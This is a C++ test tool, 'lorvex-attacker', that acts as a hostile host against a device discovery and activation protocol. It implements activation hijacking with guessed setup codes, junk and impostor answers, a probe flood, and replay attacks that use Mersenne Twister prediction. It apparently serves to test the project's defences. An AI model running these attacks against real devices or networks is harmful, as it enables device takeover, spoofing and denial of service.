// lorvex-attacker: a hostile host on the installer's link, for the network
// tests only. It speaks the search protocol as docs/protocol.md gives it,
// with its own encoding on libsodium (none of the project's wire code), so
// that every attack it wins or loses also checks the document.
//
//   lorvex-attacker MODE [--from ADDRESS] [--seconds S] [--out FILE] [options]
//
// MODE:
//   activate     races the installer: every device it hears answer as not
//                activated gets an activation request with the attacker's
//                own password (--password) and a guessed setup code.
//                Lines: "activation MAC RESULT".
//   junk         after every probe to all devices: --count answers from
//                made-up devices with random keys, signatures and tags, and,
//                with --impersonate MAC, an authentic answer of its own key
//                for that MAC. Lines: "burst ID COUNT".
//   probe-flood  --rate probes a second to all devices (or --mac), each with
//                a new random tool key. Line at the end: "probes N".
//   harvest      watches the tool's round identifiers; after --observe of
//                them predicts the next --predict ones as a 32-bit-seeded
//                Mersenne Twister would give them, asks device --target for
//                answers to those identifiers with the tool's own key, and
//                replays a harvested answer whenever the tool sends a probe
//                with its identifier. Lines: "observed N", "harvested N",
//                "replayed ID".
// --from binds the sending socket to that local address, so the attacker
// has a source address of its own on the link. The first line, "ready", is
// written once its sockets are open. Runs until --seconds (default
// 10) have passed or SIGTERM. Run it only inside a private network namespace.

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sodium.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <csignal>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <algorithm>
#include <map>
#include <set>
#include <string>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;
using Bytes = std::string;

constexpr char kGroup[] = "239.255.76.88";
constexpr std::uint16_t kDevicePort = 48760;
constexpr std::uint16_t kToolPort = 48761;
constexpr std::size_t kHeader = 30;
constexpr std::size_t kCert = 108;
constexpr std::size_t kChallenge = 16;
constexpr std::size_t kTag = 32;

std::atomic<bool> g_stop{false};
void OnSignal(int) { g_stop = true; }

struct Options {
    std::string mode;
    std::string from;
    double seconds = 10;
    std::string out;
    std::string password = "Attacker#2026";
    int count = 5000;
    std::string impersonate;
    double rate = 4000;
    std::string mac;
    std::string target;
    int observe = 624;
    int predict = 64;
};

// ---- the datagram, as docs/protocol.md lays it out ----

struct Datagram {
    int kind = 0;
    std::uint32_t id = 0;
    std::string mac; // the 17 characters as sent
    Bytes header;    // the 30 bytes as sent
    Bytes payload;
};

Bytes Header(int kind, std::uint32_t id, const std::string& mac, std::size_t payload) {
    Bytes h = "LVXS";
    h += static_cast<char>(2);
    h += static_cast<char>(kind);
    h += static_cast<char>(payload >> 8);
    h += static_cast<char>(payload & 0xFF);
    for (int s = 24; s >= 0; s -= 8)
        h += static_cast<char>((id >> s) & 0xFF);
    h += mac;
    h += '\0';
    return h;
}

bool Parse(const unsigned char* d, std::size_t n, Datagram* out) {
    if (n < kHeader || n > 4096 || std::memcmp(d, "LVXS", 4) != 0 || d[4] != 2 || d[29] != 0)
        return false;
    const std::size_t length = (std::size_t{d[6]} << 8) | d[7];
    if (length != n - kHeader)
        return false;
    out->kind = d[5];
    out->id = (std::uint32_t{d[8]} << 24) | (std::uint32_t{d[9]} << 16) |
              (std::uint32_t{d[10]} << 8) | d[11];
    out->mac.assign(reinterpret_cast<const char*>(d) + 12, 17);
    out->header.assign(reinterpret_cast<const char*>(d), kHeader);
    out->payload.assign(reinterpret_cast<const char*>(d) + kHeader, n - kHeader);
    return true;
}

const unsigned char* U(const Bytes& b) { return reinterpret_cast<const unsigned char*>(b.data()); }

Bytes Random(std::size_t n) {
    Bytes b(n, '\0');
    randombytes_buf(b.data(), n);
    return b;
}

std::string RandomMac() {
    unsigned char m[6];
    randombytes_buf(m, sizeof m);
    m[0] = 0x0A; // locally administered, unicast
    char text[18];
    std::snprintf(text, sizeof text, "%02X:%02X:%02X:%02X:%02X:%02X", m[0], m[1], m[2], m[3], m[4],
                  m[5]);
    return text;
}

Bytes MacBytes(const std::string& text) {
    Bytes b;
    for (std::size_t i = 0; i + 1 < text.size(); i += 3)
        b += static_cast<char>(std::strtoul(text.substr(i, 2).c_str(), nullptr, 16));
    return b;
}

// A tool's view of one device: the keys agreed with it (crypto_kx, the
// attacker as client).
struct Session {
    unsigned char pk[32], sk[32];
    unsigned char toTool[32], toDevice[32];
};

bool Agree(Session* s, const unsigned char* devicePk) {
    return crypto_kx_client_session_keys(s->toTool, s->toDevice, s->pk, s->sk, devicePk) == 0;
}

// The tag of a reply: nonce, then Poly1305 under the first 32 bytes of
// XChaCha20(toTool, nonce ‖ 8 zero bytes), over header and the payload
// without the tag field.
Bytes Tag(const unsigned char* toTool, const Bytes& header, const Bytes& before, const Bytes& after,
          const Bytes& nonce) {
    unsigned char streamNonce[24] = {};
    std::memcpy(streamNonce, nonce.data(), 16);
    unsigned char otk[32];
    crypto_stream_xchacha20(otk, sizeof otk, streamNonce, toTool);
    const Bytes all = header + before + after;
    unsigned char auth[16];
    crypto_onetimeauth(auth, U(all), all.size(), otk);
    return nonce + Bytes(reinterpret_cast<char*>(auth), 16);
}

bool TagHolds(const unsigned char* toTool, const Datagram& d, std::size_t tagAt) {
    if (d.payload.size() < tagAt + kTag)
        return false;
    const Bytes want = Tag(toTool, d.header, d.payload.substr(0, tagAt),
                           d.payload.substr(tagAt + kTag), d.payload.substr(tagAt, 16));
    return sodium_memcmp(want.data(), d.payload.data() + tagAt, kTag) == 0;
}

// A sealed request: tool key, nonce, XChaCha20-Poly1305-IETF of challenge
// and body under toDevice, with header and tool key as associated data.
Bytes Sealed(const Session& s, int kind, std::uint32_t id, const std::string& mac,
             const Bytes& challenge, const Bytes& body) {
    const std::size_t size = 32 + 24 + 16 + challenge.size() + body.size();
    const Bytes header = Header(kind, id, mac, size);
    const Bytes key(reinterpret_cast<const char*>(s.pk), 32);
    const Bytes nonce = Random(24);
    const Bytes plain = challenge + body;
    const Bytes ad = header + key;
    Bytes sealed(plain.size() + 16, '\0');
    unsigned long long n = 0;
    crypto_aead_xchacha20poly1305_ietf_encrypt(reinterpret_cast<unsigned char*>(sealed.data()), &n,
                                               U(plain), plain.size(), U(ad), ad.size(), nullptr,
                                               U(nonce), s.toDevice);
    return header + key + nonce + sealed;
}

// A setup code of the right form with a random value: what someone without
// the label can do at best.
std::string GuessedCode() {
    static const char a[] = "0123456789ABCDEFGHJKMNPQRSTVWXYZ";
    std::string chars;
    for (int i = 0; i < 10; ++i)
        chars += a[randombytes_uniform(32)];
    unsigned char h[32];
    crypto_generichash(h, sizeof h, reinterpret_cast<const unsigned char*>(chars.data()), 10,
                       nullptr, 0);
    const unsigned v = (unsigned{h[0]} << 2) | (unsigned{h[1]} >> 6);
    chars += a[v >> 5];
    chars += a[v & 31];
    return chars.substr(0, 4) + "-" + chars.substr(4, 4) + "-" + chars.substr(8);
}

std::string Element(const Bytes& xml, const std::string& name) {
    const std::size_t at = xml.find("<" + name + ">");
    if (at == std::string::npos)
        return {};
    const std::size_t from = at + name.size() + 2;
    const std::size_t to = xml.find('<', from);
    return to == std::string::npos ? std::string() : xml.substr(from, to - from);
}

// ---- sockets ----

// One socket to send from (bound to --from), and one on each of the two
// ports of the group, so that the attacker hears tools and devices alike.
class Link {
public:
    bool Open(const std::string& from) {
        m_tx = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (m_tx < 0)
            return false;
        const unsigned char ttl = 1;
        setsockopt(m_tx, IPPROTO_IP, IP_MULTICAST_TTL, &ttl, sizeof ttl);
        sockaddr_in local{};
        local.sin_family = AF_INET;
        if (!from.empty()) {
            if (inet_pton(AF_INET, from.c_str(), &local.sin_addr) != 1)
                return false;
            if (bind(m_tx, reinterpret_cast<sockaddr*>(&local), sizeof local) != 0)
                return false;
            setsockopt(m_tx, IPPROTO_IP, IP_MULTICAST_IF, &local.sin_addr, sizeof local.sin_addr);
        }
        for (int i = 0; i < 2; ++i)
            if (!OpenReceiver(i == 0 ? kDevicePort : kToolPort, local.sin_addr, &m_rx[i]))
                return false;
        return true;
    }
    ~Link() {
        for (int fd : {m_tx, m_rx[0], m_rx[1]})
            if (fd >= 0)
                close(fd);
    }
    void Send(std::uint16_t port, const Bytes& datagram) {
        sockaddr_in to{};
        to.sin_family = AF_INET;
        to.sin_port = htons(port);
        inet_pton(AF_INET, kGroup, &to.sin_addr);
        sendto(m_tx, datagram.data(), datagram.size(), 0, reinterpret_cast<sockaddr*>(&to),
               sizeof to);
    }
    // The next datagram on either port within `ms`, false when none came.
    bool Receive(int ms, Datagram* out) {
        pollfd p[2] = {{m_rx[0], POLLIN, 0}, {m_rx[1], POLLIN, 0}};
        if (poll(p, 2, ms) <= 0)
            return false;
        unsigned char buf[4097];
        const int fd = (p[0].revents & POLLIN) ? m_rx[0] : m_rx[1];
        const ssize_t n = recv(fd, buf, sizeof buf, 0);
        return n > 0 && Parse(buf, static_cast<std::size_t>(n), out);
    }

private:
    static bool OpenReceiver(std::uint16_t port, in_addr on, int* fd) {
        *fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
        const int one = 1, buffer = 4 << 20;
        setsockopt(*fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
        setsockopt(*fd, SOL_SOCKET, SO_RCVBUFFORCE, &buffer, sizeof buffer);
        sockaddr_in any{};
        any.sin_family = AF_INET;
        any.sin_port = htons(port);
        if (*fd < 0 || bind(*fd, reinterpret_cast<sockaddr*>(&any), sizeof any) != 0)
            return false;
        ip_mreqn join{};
        inet_pton(AF_INET, kGroup, &join.imr_multiaddr);
        join.imr_address = on;
        return setsockopt(*fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &join, sizeof join) == 0;
    }
    int m_tx = -1;
    int m_rx[2] = {-1, -1};
};

class Output {
public:
    explicit Output(const std::string& path)
        : m_file(path.empty() ? stdout : std::fopen(path.c_str(), "w")) {
        if (m_file)
            std::setvbuf(m_file, nullptr, _IOLBF, 256);
    }
    ~Output() {
        if (m_file && m_file != stdout)
            std::fclose(m_file);
    }
    bool Ok() const { return m_file != nullptr; }
    void Line(const char* text) {
        std::fputs(text, m_file);
        std::fputc('\n', m_file);
    }
    template <class A0, class... A> void Line(const char* format, A0 first, A... rest) {
        std::fprintf(m_file, format, first, rest...);
        std::fputc('\n', m_file);
    }

private:
    std::FILE* m_file;
};

bool Running(Clock::time_point end) { return !g_stop && Clock::now() < end; }

// ---- activate ----

// Asks `mac` for a challenge with the attacker's own key and returns the
// device's key and that challenge from its answer.
bool FetchChallenge(Link& link, Session& s, const std::string& mac, Bytes* devicePk,
                    Bytes* challenge) {
    const std::uint32_t id = randombytes_random() | 1;
    link.Send(kDevicePort, Header(1, id, mac, 32) + Bytes(reinterpret_cast<char*>(s.pk), 32));
    for (auto end = Clock::now() + std::chrono::milliseconds(1500); Running(end);) {
        Datagram d;
        if (!link.Receive(50, &d) || d.kind != 2 || d.id != id || d.mac != mac ||
            d.payload.size() < kCert + kChallenge + kTag)
            continue;
        *devicePk = d.payload.substr(12, 32);
        if (!Agree(&s, U(*devicePk)) || !TagHolds(s.toTool, d, kCert + kChallenge))
            continue;
        *challenge = d.payload.substr(kCert, kChallenge);
        return true;
    }
    return false;
}

std::string Activate(Link& link, Session& s, const std::string& mac, const std::string& password) {
    Bytes devicePk, challenge;
    if (!FetchChallenge(link, s, mac, &devicePk, &challenge))
        return "no-challenge";
    const std::uint32_t id = randombytes_random() | 1;
    const std::string code = GuessedCode();
    const std::size_t size = 32 + 24 + 16 + kChallenge + 32 + password.size();
    const Bytes header = Header(7, id, mac, size);
    const Bytes input =
        "LVXA" + header + Bytes(reinterpret_cast<char*>(s.pk), 32) + challenge + devicePk;
    unsigned char proof[32];
    crypto_generichash(proof, sizeof proof, U(input), input.size(), U(code), code.size());
    link.Send(kDevicePort, Sealed(s, 7, id, mac, challenge,
                                  Bytes(reinterpret_cast<char*>(proof), 32) + password));
    for (auto end = Clock::now() + std::chrono::milliseconds(1500); Running(end);) {
        Datagram d;
        if (link.Receive(50, &d) && d.kind == 4 && d.id == id && d.mac == mac &&
            TagHolds(s.toTool, d, kChallenge))
            return Element(d.payload.substr(kChallenge + kTag), "setIPResult");
    }
    return "none";
}

// Races for every device that shows itself not activated: once each time
// it does (new, or just restored), as the fastest host on the link would.
int RunActivate(const Options& o, Link& link, Output& out) {
    Session s;
    crypto_kx_keypair(s.pk, s.sk);
    std::set<std::string> raced; // not activated and tried since
    for (auto end = Clock::now() + std::chrono::duration_cast<Clock::duration>(
                                       std::chrono::duration<double>(o.seconds));
         Running(end);) {
        Datagram d;
        if (!link.Receive(50, &d) || d.kind != 2 || d.payload.size() <= kCert + kChallenge + kTag)
            continue;
        const std::string state =
            Element(d.payload.substr(kCert + kChallenge + kTag), "deviceActivated");
        if (state == "0")
            raced.erase(d.mac);
        if (state != "1" || !raced.insert(d.mac).second)
            continue;
        out.Line("activation %s %s", d.mac.c_str(), Activate(link, s, d.mac, o.password).c_str());
    }
    return 0;
}

// ---- junk ----

// Junk that costs its receiver the most: a key that is a valid Ed25519
// point (from a small pool) and a signature in canonical form, so that
// checking the certificate takes a whole verification, not an early refusal.
Bytes JunkAnswer(std::uint32_t id) {
    static const std::vector<Bytes> keys = [] {
        std::vector<Bytes> pool;
        for (int i = 0; i < 64; ++i) {
            unsigned char pk[32], sk[64];
            crypto_sign_keypair(pk, sk);
            pool.emplace_back(reinterpret_cast<char*>(pk), 32);
        }
        return pool;
    }();
    const std::string mac = RandomMac();
    Bytes cert = "LVXC";
    cert += static_cast<char>(1);
    cert += '\0';
    cert += MacBytes(mac);
    cert += keys[randombytes_uniform(static_cast<std::uint32_t>(keys.size()))];
    Bytes signature = Random(64);
    signature[63] = static_cast<char>(signature[63] & 0x0F); // s below the group order
    cert += signature;
    const Bytes xml = "<multicastSearchResult><productInfo><productSeries>ZVK_IPC</productSeries>"
                      "<devName>junk</devName></productInfo></multicastSearchResult>";
    const Bytes payload = cert + Random(kChallenge + kTag) + xml;
    return Header(2, id, mac, payload.size()) + payload;
}

// An answer for `mac` under the attacker's own key, authentic for the tool
// key of the probe (anyone can make one).
Bytes Impersonation(Session& s, const Bytes& toolKey, std::uint32_t id, const std::string& mac) {
    unsigned char tx[32];
    if (crypto_kx_server_session_keys(tx, s.toTool, s.pk, s.sk, U(toolKey)) !=
        0) // the device's side
        return {};
    Bytes cert = "LVXC";
    cert += static_cast<char>(1);
    cert += '\0';
    cert += MacBytes(mac);
    cert += Bytes(reinterpret_cast<char*>(s.pk), 32) + Bytes(64, '\0');
    const Bytes xml = "<multicastSearchResult><productInfo><productSeries>ZVK_IPC</productSeries>"
                      "<devName>impostor</devName><deviceActivated>0</deviceActivated>"
                      "</productInfo><tcpIp><ipAddr><item><ip>10.99.99.99</ip></item></ipAddr>"
                      "</tcpIp></multicastSearchResult>";
    const Bytes before = cert + Random(kChallenge);
    const std::size_t size = before.size() + kTag + xml.size();
    const Bytes header = Header(2, id, mac, size);
    return header + before + Tag(s.toTool, header, before, xml, Random(16)) + xml;
}

int RunJunk(const Options& o, Link& link, Output& out) {
    Session s;
    crypto_kx_keypair(s.pk, s.sk);
    for (auto end = Clock::now() + std::chrono::duration_cast<Clock::duration>(
                                       std::chrono::duration<double>(o.seconds));
         Running(end);) {
        Datagram d;
        if (!link.Receive(50, &d) || d.kind != 1 || d.payload.size() != 32 ||
            d.mac != "00:00:00:00:00:00")
            continue;
        const Bytes impostor =
            o.impersonate.empty() ? Bytes() : Impersonation(s, d.payload, d.id, o.impersonate);
        if (!impostor.empty())
            link.Send(kToolPort, impostor);
        for (int i = 0; i < o.count && !g_stop; ++i)
            link.Send(kToolPort, JunkAnswer(d.id));
        out.Line("burst %08x %d", d.id, o.count);
    }
    return 0;
}

// ---- probe-flood ----

int RunProbeFlood(const Options& o, Link& link, Output& out) {
    const std::string mac = o.mac.empty() ? "00:00:00:00:00:00" : o.mac;
    long sent = 0;
    const auto start = Clock::now();
    const auto end = start + std::chrono::duration_cast<Clock::duration>(
                                 std::chrono::duration<double>(o.seconds));
    while (Running(end)) {
        const double due = o.rate * std::chrono::duration<double>(Clock::now() - start).count();
        for (; sent < static_cast<long>(due) && !g_stop; ++sent) {
            unsigned char pk[32], sk[32];
            crypto_kx_keypair(pk, sk);
            link.Send(kDevicePort, Header(1, randombytes_random() | 1, mac, 32) +
                                       Bytes(reinterpret_cast<char*>(pk), 32));
        }
        usleep(1000);
    }
    out.Line("probes %ld", sent);
    return 0;
}

// ---- harvest ----

// std::mt19937's output function, undone.
std::uint32_t Untemper(std::uint32_t y) {
    y ^= y >> 18;
    y ^= (y << 15) & 0xEFC60000u;
    std::uint32_t x = y;
    for (int i = 0; i < 5; ++i)
        x = y ^ ((x << 7) & 0x9D2C5680u);
    y = x;
    x = y;
    for (int i = 0; i < 3; ++i)
        x = y ^ (x >> 11);
    return x;
}

std::uint32_t Temper(std::uint32_t y) {
    y ^= y >> 11;
    y ^= (y << 7) & 0x9D2C5680u;
    y ^= (y << 15) & 0xEFC60000u;
    return y ^ (y >> 18);
}

// The next `count` outputs of a Mersenne Twister whose last 624 outputs
// were `seen`.
std::vector<std::uint32_t> Predict(const std::vector<std::uint32_t>& seen, int count) {
    std::vector<std::uint32_t> mt(624);
    for (int i = 0; i < 624; ++i)
        mt[i] = Untemper(seen[seen.size() - 624 + i]);
    std::vector<std::uint32_t> out;
    for (int k = 0; k < count; ++k) {
        const int i = k % 624;
        const std::uint32_t y = (mt[i] & 0x80000000u) | (mt[(i + 1) % 624] & 0x7FFFFFFFu);
        mt[i] = mt[(i + 397) % 624] ^ (y >> 1) ^ ((y & 1) ? 0x9908B0DFu : 0u);
        out.push_back(Temper(mt[i]));
    }
    return out;
}

int RunHarvest(const Options& o, Link& link, Output& out) {
    std::vector<std::uint32_t> rounds;
    std::set<std::uint32_t> seenIds;
    Bytes toolKey;
    std::map<std::uint32_t, Bytes> harvested;
    std::vector<std::uint32_t> predicted;
    Clock::time_point nextAsk{};
    const auto end = Clock::now() + std::chrono::duration_cast<Clock::duration>(
                                        std::chrono::duration<double>(o.seconds));
    while (Running(end)) {
        Datagram d;
        const bool got = link.Receive(5, &d);
        if (got && d.kind == 1 && d.payload.size() == 32 && d.mac == "00:00:00:00:00:00" &&
            seenIds.insert(d.id).second && predicted.empty()) {
            toolKey = d.payload;
            rounds.push_back(d.id);
            if (static_cast<int>(rounds.size()) == o.observe) {
                out.Line("observed %d", o.observe);
                predicted = Predict(rounds, o.predict);
            }
        }
        if (got && d.kind == 2 && d.mac == o.target && !predicted.empty() &&
            std::find(predicted.begin(), predicted.end(), d.id) != predicted.end() &&
            harvested.emplace(d.id, d.header + d.payload).second &&
            harvested.size() == predicted.size())
            out.Line("harvested %zu", harvested.size());
        // Ask the device, paced, for every predicted identifier not harvested yet.
        if (!predicted.empty() && harvested.size() < predicted.size() && Clock::now() >= nextAsk) {
            for (std::uint32_t id : predicted)
                if (!harvested.count(id))
                    link.Send(kDevicePort, Header(1, id, o.target, 32) + toolKey);
            nextAsk = Clock::now() + std::chrono::milliseconds(1500);
        }
        // A probe of the tool with a harvested identifier gets the answer back.
        if (got && d.kind == 1 && harvested.count(d.id) && d.payload == toolKey) {
            link.Send(kToolPort, harvested[d.id]);
            out.Line("replayed %08x", d.id);
        }
    }
    if (!predicted.empty() && harvested.size() < predicted.size())
        out.Line("harvested %zu", harvested.size());
    return 0;
}

bool ParseArgs(int argc, char** argv, Options* o) {
    if (argc < 2)
        return false;
    o->mode = argv[1];
    for (int i = 2; i + 1 < argc; i += 2) {
        const std::string name = argv[i], value = argv[i + 1];
        if (name == "--from")
            o->from = value;
        else if (name == "--seconds")
            o->seconds = std::atof(value.c_str());
        else if (name == "--out")
            o->out = value;
        else if (name == "--password")
            o->password = value;
        else if (name == "--count")
            o->count = std::atoi(value.c_str());
        else if (name == "--impersonate")
            o->impersonate = value;
        else if (name == "--rate")
            o->rate = std::atof(value.c_str());
        else if (name == "--mac")
            o->mac = value;
        else if (name == "--target")
            o->target = value;
        else if (name == "--observe")
            o->observe = std::atoi(value.c_str());
        else if (name == "--predict")
            o->predict = std::atoi(value.c_str());
        else
            return false;
    }
    return (argc % 2) == 0;
}

} // namespace

int main(int argc, char** argv) {
    Options o;
    if (!ParseArgs(argc, argv, &o) || sodium_init() < 0) {
        std::fputs("usage: lorvex-attacker activate|junk|probe-flood|harvest [--from A] "
                   "[--seconds S] [--out FILE] [options]\n",
                   stderr);
        return 2;
    }
    std::signal(SIGTERM, OnSignal);
    std::signal(SIGINT, OnSignal);
    Output out(o.out);
    Link link;
    if (!out.Ok() || !link.Open(o.from)) {
        std::fprintf(stderr, "lorvex-attacker: cannot open the sockets or %s\n", o.out.c_str());
        return 1;
    }
    out.Line("ready");
    if (o.mode == "activate")
        return RunActivate(o, link, out);
    if (o.mode == "junk")
        return RunJunk(o, link, out);
    if (o.mode == "probe-flood")
        return RunProbeFlood(o, link, out);
    if (o.mode == "harvest")
        return RunHarvest(o, link, out);
    std::fprintf(stderr, "lorvex-attacker: unknown mode %s\n", o.mode.c_str());
    return 2;
}
